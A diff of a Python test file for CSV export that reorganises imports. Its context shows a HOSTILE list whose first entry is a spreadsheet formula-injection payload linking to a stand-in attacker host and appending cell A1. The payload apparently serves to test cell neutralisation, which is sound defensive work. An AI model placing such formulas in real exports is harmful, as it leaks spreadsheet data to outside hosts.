@@ -11,7 +11,9 @@ import pandas as pd
 import pytest
 
 from lab.results.export import items_csv, neutralise_cell, restore_cell, summary_csv, write_csv
-from lab.results.stats import ITEM_COLUMNS, SUMMARY_COLUMNS, item_frame, summary
+from lab.results.read import item_frame
+from lab.results.stats import SUMMARY_COLUMNS, summary
+from lab.run.store import ITEM_COLUMNS
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
